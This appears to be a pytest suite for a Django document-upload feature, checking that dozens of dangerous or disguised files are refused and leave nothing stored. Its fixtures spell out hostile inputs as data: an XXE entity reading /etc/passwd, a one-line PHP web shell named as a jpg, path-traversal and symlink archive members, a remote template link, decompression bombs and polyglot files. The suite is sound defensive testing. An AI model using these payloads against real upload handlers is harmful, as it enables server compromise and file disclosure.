"""A zoo of files: which are taken, which are not, and that nothing of the refused stays (UP-01)."""

import stat
import struct
import zipfile
from io import BytesIO

import pytest

from documents.actions import store_upload
from documents.models import StoredFile
from documents.scanner import EICAR
from documents.uploads import UploadRefused
from tests.factories.documents import (
    GOOD,
    PDF,
    jpeg,
    make_upload,
    office,
    open_document,
    png,
    zipped,
)
from tests.factories.organisation import make_user

pytestmark = pytest.mark.django_db
STREAM = "proposal:00000000-0000-4000-8000-000000000001"
TYPES_PART = "[Content_Types].xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
MACRO_TYPES = (
    '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>'
)
DTD = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
REMOTE = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://xau.test/m.dotm" TargetMode="External"/>'
    "</Relationships>"
)


def docx(**more):
    return office("docx", **more)


def with_member(info: zipfile.ZipInfo, content: bytes = b"x") -> bytes:
    out = BytesIO(GOOD["docx"])
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, content)
    return out.getvalue()


def link(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def encrypted() -> bytes:
    """The flag of encryption set in both headers of the last member."""
    content = bytearray(with_member(zipfile.ZipInfo("word/secret.xml")))
    central = content.rindex(b"PK\x01\x02")
    local = content.rindex(b"PK\x03\x04")
    content[central + 8] |= 1
    content[local + 6] |= 1
    return bytes(content)


def commented() -> bytes:
    out = BytesIO(GOOD["docx"])
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    return out.getvalue()


def packed(how: int) -> bytes:
    out = BytesIO(GOOD["docx"])
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/more.xml", b"<d/>" * 50, compress_type=how)
    return out.getvalue()


def broken_stream() -> bytes:
    """A member whose packed bytes are no packed bytes."""
    content = packed(zipfile.ZIP_DEFLATED)
    place = content.rindex(b"word/more.xml", 0, content.rindex(b"PK\x01\x02")) + 13
    return content[:place] + b"\xff\xff\xff" + content[place + 3 :]


def wrong_sum() -> bytes:
    content = bytearray(
        zipped({"[Content_Types].xml": "<t/>", "word/document.xml": "<d/>" * 99}, stored=True)
    )
    content[content.index(b"<d/>")] = 0x21
    return bytes(content)


REFUSED = {
    # types that are not on the list
    "program": ("a.exe", b"MZ\x90\0" + b"\0" * 64),
    "program in a pdf's name": ("a.pdf", b"MZ\x90\0" + b"\0" * 64),
    "program in a docx's name": ("a.docx", b"MZ\x90\0" + b"\0" * 64),
    "installer": ("a.msi", OLE),
    "shortcut": ("a.lnk", b"L\0\0\0\x01\x14\x02\0"),
    "disc image": ("a.iso", b"\0" * 32769 + b"CD001"),
    "page": ("a.html", b"<html><script>1</script></html>"),
    "page in a pdf's name": ("a.pdf", b"<html><script>1</script></html>"),
    "page in a jpg's name": ("a.jpg", b"<html><script>1</script></html>"),
    "vector picture": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "vector picture in a png's name": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "xml": ("a.xml", DTD.encode()),
    "script": ("a.js", b"alert(1)"),
    "shell": ("a.sh", b"#!/bin/sh\n"),
    "php in a jpg's name": ("a.jpg", b"<?php system($_GET['c']); ?>"),
    "zip": ("a.zip", zipped({"a.txt": "x"})),
    "rar": ("a.rar", b"Rar!\x1a\x07\x01\0"),
    "seven zip": ("a.7z", b"7z\xbc\xaf\x27\x1c"),
    "zip in a docx's name": ("a.docx", zipped({"a.txt": "x"})),
    "zip in an odt's name": ("a.odt", zipped({"a.txt": "x"})),
    "old word": ("a.doc", OLE),
    "old word in a docx's name": ("a.docx", OLE),
    "gif": ("a.gif", b"GIF89a\x01\0\x01\0"),
    "gif in a png's name": ("a.png", b"GIF89a\x01\0\x01\0"),
    "plain text": ("a.txt", b"xin ch\xc3\xa0o"),
    "text in a pdf's name": ("a.pdf", b"xin ch\xc3\xa0o"),
    "no extension": ("tep", PDF),
    "an extension alone": (".pdf", b""),
    # one of the list under the name of another
    "pdf as docx": ("a.docx", PDF),
    "docx as pdf": ("a.pdf", GOOD["docx"]),
    "docx as xlsx": ("a.xlsx", GOOD["docx"]),
    "xlsx as pptx": ("a.pptx", GOOD["xlsx"]),
    "odt as ods": ("a.ods", GOOD["odt"]),
    "docx as odt": ("a.odt", GOOD["docx"]),
    "png as jpg": ("a.jpg", png()),
    "jpg as png": ("a.png", jpeg()),
    # names of two types
    "exe.pdf": ("hoa-don.exe.pdf", PDF),
    "pdf.exe": ("hoa-don.pdf.exe", PDF),
    "php.jpg": ("anh.php.jpg", jpeg()),
    "docx.pdf": ("a.docx.pdf", PDF),
    "hidden by spaces": ("hoa-don.pdf          .exe", PDF),
    "turned around": ("hoa-don\u202efdp.exe", PDF),
    # macros and programs inside
    "macro document": ("a.docm", docx()),
    "macro part": ("a.docx", docx(**{"word/vbaProject.bin": b"x"})),
    "macro part elsewhere": ("a.xlsx", office("xlsx", **{"xl/VBAPROJECT.BIN": b"x"})),
    "macro type": ("a.docx", zipped({TYPES_PART: MACRO_TYPES, "word/document.xml": "<d/>"})),
    "old excel macros": ("a.xlsx", office("xlsx", **{"xl/macrosheets/sheet1.xml": "<s/>"})),
    "active control": ("a.docx", docx(**{"word/activeX/activeX1.bin": b"x"})),
    "remote template": ("a.docx", docx(**{"word/_rels/settings.xml.rels": REMOTE})),
    "program inside": ("a.docx", docx(**{"word/embeddings/setup.exe": b"MZ"})),
    "basic in an odt": ("a.odt", open_document("text", **{"Basic/Standard/Module1.xml": "<m/>"})),
    "script in an ods": ("a.ods", open_document("spreadsheet", **{"Scripts/python/a.xml": "<m/>"})),
    # archives that attack
    "entity": ("a.docx", docx(**{"word/footnotes.xml": DTD})),
    "entity in utf-16": ("a.docx", docx(**{"word/footnotes.xml": DTD.encode("utf-16")})),
    "entity in relations": ("a.xlsx", office("xlsx", **{"xl/_rels/workbook.xml.rels": DTD})),
    "bomb": ("a.docx", docx(**{"word/big.xml": b"0" * 30_000_000})),
    "many members": ("a.docx", docx(**{f"word/{n}.xml": b"" for n in range(5001)})),
    "climbing name": ("a.docx", docx(**{"../../etc/cron.d/x": b"x"})),
    "climbing name inside": ("a.docx", docx(**{"word/../../x": b"x"})),
    "absolute name": ("a.docx", docx(**{"/etc/passwd": b"x"})),
    "windows name": ("a.docx", docx(**{"C:/windows/x": b"x"})),
    "backslashes": ("a.docx", docx(**{"word\\..\\x": b"x"})),
    "link": ("a.docx", with_member(link("word/link.xml"), b"/etc/passwd")),
    "encrypted member": ("a.docx", encrypted()),
    "the same name twice": ("a.docx", docx(**{"word/DOCUMENT.xml": b"<d/>"})),
    "script before the archive": ("a.docx", b"#!/bin/sh\n" + GOOD["docx"]),
    "comment after the archive": ("a.docx", commented()),
    "cut archive": ("a.docx", GOOD["docx"][:-30]),
    "wrong check sum": ("a.docx", wrong_sum()),
    "broken stream": ("a.docx", broken_stream()),
    "packed with bzip2": ("a.docx", packed(zipfile.ZIP_BZIP2)),
    "packed with lzma": ("a.docx", packed(zipfile.ZIP_LZMA)),
    # two types at once
    "pdf and zip": ("a.pdf", PDF + zipped({"a.txt": "x"})),
    "pdf with a page in front": ("a.pdf", b"<html>" + PDF),
    "pdf with a script in its head": ("a.pdf", PDF[:9] + b"<script>1</script>" + PDF[9:]),
    "pdf without an end": ("a.pdf", PDF[:40]),
    "jpg and zip": ("a.jpg", jpeg() + zipped({"a.txt": "x"})),
    "jpg and page": ("a.jpg", jpeg() + b"<html><script>1</script>"),
    "jpg and program": ("a.jpg", jpeg() + b"MZ\x90\0"),
    "png and zip": ("a.png", png() + zipped({"a.txt": "x"})),
    "png and anything": ("a.png", png() + b"x"),
    # pictures that are bombs, or broken
    "png of 100 megapixels": ("a.png", png(10_000, 10_000)),
    "jpg of 100 megapixels": ("a.jpg", jpeg(10_000, 10_000)),
    "png without pixels": ("a.png", png(0, 5)),
    "jpg without a frame": ("a.jpg", b"\xff\xd8\xff\xd9" + b"\0" * 20),
    "cut png": ("a.png", png()[:-6]),
    "png with a chunk that never ends": ("a.png", png()[:33] + struct.pack(">I", 2**31) + b"IDAT"),
    # viruses
    "test virus": ("a.pdf", PDF[:-7] + EICAR + PDF[-7:]),
    "test virus in a document": ("a.docx", docx(**{"word/embeddings/a.bin": EICAR})),
    # nothing, and wrong words
    "empty": ("a.pdf", b""),
    "declared otherwise": ("a.pdf", PDF, "text/html"),
    "picture declared as page": ("a.png", png(), "image/svg+xml"),
}

TAKEN = {
    "number in the name": ("Báo cáo quý 1.2022.pdf", PDF),
    "upper case": ("SO LIEU.XLSX", GOOD["xlsx"]),
    "jpeg": ("anh.jpeg", jpeg(), "image/jpeg"),
    "undeclared": ("a.odt", GOOD["odt"], "application/octet-stream"),
    "phone's trailer": ("anh.jpg", jpeg() + b"SEFHe\0\0\0SEFT"),
    "50 megapixels": ("anh.png", png(10_000, 5_000)),
    "embedded sheet": ("a.docx", docx(**{"word/embeddings/Bang1.xlsx": GOOD["xlsx"]})),
} | {extension: (f"tep.{extension}", content) for extension, content in GOOD.items()}


def test_the_zoo_is_large_enough():
    assert len(REFUSED) >= 60


@pytest.mark.parametrize("animal", REFUSED)
def test_refused_files_leave_nothing_behind(animal, media):
    with pytest.raises(UploadRefused) as refused:
        store_upload(make_upload(*REFUSED[animal]), stream=STREAM, by=make_user())

    assert refused.value.message.endswith(".")
    assert not StoredFile.objects.exists()
    assert [path for path in media.rglob("*") if path.is_file()] == []


@pytest.mark.parametrize("animal", TAKEN)
def test_honest_files_are_taken(animal):
    upload = make_upload(*TAKEN[animal])

    stored = store_upload(upload, stream=STREAM, by=make_user())

    upload.seek(0)
    assert stored.path.read_bytes() == upload.read()
    assert stored.get_state_display() == "chưa quét virus"
